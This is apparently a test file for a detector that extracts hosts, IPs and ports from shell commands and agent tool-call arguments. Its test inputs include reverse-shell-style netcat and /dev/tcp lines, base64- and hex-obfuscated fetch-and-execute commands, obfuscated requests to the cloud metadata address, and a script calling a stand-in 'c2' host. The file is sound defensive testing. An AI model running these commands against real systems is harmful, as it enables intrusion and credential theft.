import fc from 'fast-check'
import { describe, expect, test } from 'vitest'
import { targetLimits } from './scan-text.ts'
import { commandTargets } from './targets.ts'

function targets(command: string, name = 'bash'): string[] {
  return commandTargets(name, command).map((t) => `${t.kind} ${t.value}`)
}

describe('what stands in the text', () => {
  test.each([
    ['curl https://api.example.com:8443/v1', ['name api.example.com', 'port 8443']],
    ['curl -s http://2852039166/latest', ['ip 169.254.169.254']],
    ['curl 0xA9FEA9FE/latest', ['ip 169.254.169.254']],
    ['curl http://[::ffff:169.254.169.254]/', ['ip 169.254.169.254']],
    ['curl http://user:pw@192.0.2.7/', ['ip 192.0.2.7']],
    ['git clone git@git.example.com:org/repo.git', ['name git.example.com']],
    ['nc 192.0.2.1 4444', ['ip 192.0.2.1', 'port 4444']],
    [
      'ssh -fNR 18067:10.0.3.22:6379 -p 443 dev@relay.example.net',
      ['name relay.example.net', 'port 443', 'ip 10.0.3.22', 'port 6379'],
    ],
    ['cat < /dev/tcp/192.0.2.1/80', ['ip 192.0.2.1', 'port 80']],
    ["s.connect(('192.0.2.1', 4444))", ['ip 192.0.2.1', 'port 4444']],
    ['nmap 10.0.0.0/24', ['range 10.0.0.0/24']],
    ['ssh -p 2222 bob@bastion', ['name bastion', 'port 2222']],
    ['ssh -J jump.example.net host', ['name host', 'name jump.example.net']],
    ['scp f bob@files.example.org:/tmp', ['name files.example.org']],
    ['ping 2001:db8::5', ['ip 2001:db8::5']],
    ['curl evil/payload', ['name evil']],
    ['redis-cli -u redis://cache:6379', ['name cache', 'port 6379']],
    ['X=192.0.2.9; curl http://$X:81/', ['ip 192.0.2.9', 'port 81']],
    ['H=a; D=example.org; curl http://$H.$D/', ['name a.example.org']],
    [`echo ${btoa('curl http://hidden.example.net/x')} | base64 -d | sh`, ['name hidden.example.net']],
    [`python -c "exec(bytes.fromhex('${hexOf("connect(('192.0.2.3',81))")}'))"`, ['ip 192.0.2.3']],
    ['curl http%3A%2F%2Fx.example.com', []],
    ['socat - TCP:192.0.2.4:99', ['ip 192.0.2.4', 'port 99']],
  ])('%s', (command, expected) => {
    const found = targets(command)
    for (const target of expected) expect(found).toContain(target)
  })
})

describe('what is no host', () => {
  test.each([
    'python main.py --config package.json',
    'cargo build foo.rs && rustc a.b.rs',
    'pytest tests/test_foo.py::TestBar -k x.y',
    'grep -rn self.net src/ | head; cat a.out b.log c.so.1',
    'tar xzf data.tar.gz && ls v1.2.3 1.2.3 3.11',
    'std::vector<a::b> x; foo::bar::baz()',
    'import os.path, java.io, scipy.io; plt.show(); asyncio.run(main())',
    'sed -i s/foo.bar/x/ file.md; vi README.md index.html',
    'echo 12:30:45 key: value line:12 foo.py:99',
    'docker run -v /a:/b nginx:1.25 && npm i left-pad@1.3.0',
    'curl http://localhost:8080 http://127.0.0.1:3000 http://0.0.0.0/',
    'git checkout -b fix/io.close && git diff HEAD~1..HEAD',
    'df.info(); df.name; x.id; obj.py.name',
  ])('%s', (command) => {
    expect(commandTargets('bash', command).filter((t) => t.via !== 'tool-map' && t.kind !== 'port')).toEqual(
      [],
    )
  })
})

describe('where tools go by themselves', () => {
  test.each([
    ['pip install requests', 'pypi.org'],
    ['python3 -m pip install x', 'files.pythonhosted.org'],
    ['cd a && uv add x', 'pypi.org'],
    ['npm ci', 'registry.npmjs.org'],
    ['sudo apt-get install -y curl', 'deb.debian.org'],
    ['cargo build', 'index.crates.io'],
    ['go get ./...', 'proxy.golang.org'],
    ['docker pull alpine', 'registry-1.docker.io'],
    ['aws ec2 describe-instances --region eu-west-1', 'ec2.eu-west-1.amazonaws.com'],
    ['AWS_REGION=eu-west-1 aws s3 ls', 's3.eu-west-1.amazonaws.com'],
    ['gcloud compute instances list', 'compute.googleapis.com'],
    ['az vm list', 'management.azure.com'],
    ['aliyun ecs DescribeInstances --RegionId cn-hangzhou', 'ecs.cn-hangzhou.aliyuncs.com'],
    ['git push origin main', 'github.com'],
    ['huggingface-cli download x', 'huggingface.co'],
  ])('%s', (command, host) => {
    expect(commandTargets('bash', command)).toContainEqual(
      expect.objectContaining({ value: host, via: 'tool-map' }),
    )
  })

  test.each([
    'git status && git commit -m x',
    'pip --version',
    'npm run build',
    'go vet ./...',
    'grep pip file',
  ])('%s stays at home', (command) => {
    expect(commandTargets('bash', command)).toEqual([])
  })
})

describe('arguments as JSON', () => {
  test.each([
    ['web_fetch', '{"url":"https://docs.example.org/a?b=c.d"}', ['name docs.example.org']],
    ['http_request', '{"host":"redis","port":6379}', ['name redis', 'port 6379']],
    ['shell', '{"cmd":["bash","-lc","X=192.0.2.5; ssh $X"]}', ['ip 192.0.2.5']],
    [
      'python',
      '{"code":"requests.get(\\"http://a.example.com\\")\\nhost.example.net"}',
      ['name a.example.com'],
    ],
    ['web_fetch', '{"url":"https:\\/\\/x.example.com\\/a"}', ['name x.example.com']],
  ])('%s %s', (name, command, expected) => {
    const found = targets(command, name)
    for (const target of expected) expect(found).toContain(target)
  })
})

test('names what a script that was written earlier reaches', () => {
  const found = commandTargets('bash', 'bash run.sh', {
    writes: [{ path: 'run.sh', content: 'curl http://c2.example.com/' }],
  })
  expect(found).toContainEqual({ kind: 'name', value: 'c2.example.com', via: 'script', strength: 0.7 })
})

test('any text is read without an exception, within the limits', () => {
  const unit = fc.constantFrom(
    ...'a1.:/@[]%\\"\' $-=,',
    'http://',
    'ssh ',
    'base64 ',
    'host=',
    '10.0.0.1',
    '.com',
  )
  fc.assert(
    fc.property(fc.string({ unit, maxLength: 300 }), fc.string({ maxLength: 10 }), (command, name) => {
      const found = commandTargets(name, command)
      expect(found.length).toBeLessThanOrEqual(targetLimits.targets)
      for (const t of found) expect(t.strength).toBeGreaterThan(0)
    }),
    { numRuns: 2_000 },
  )
  for (const text of [
    '1.'.repeat(500_000),
    'http://'.repeat(200_000),
    'a@b.com:'.repeat(100_000),
    '[:'.repeat(500_000),
  ]) {
    expect(commandTargets('bash', text).length).toBeLessThanOrEqual(targetLimits.targets)
  }
})

function hexOf(text: string): string {
  return [...text].map((c) => c.charCodeAt(0).toString(16).padStart(2, '0')).join('')
}
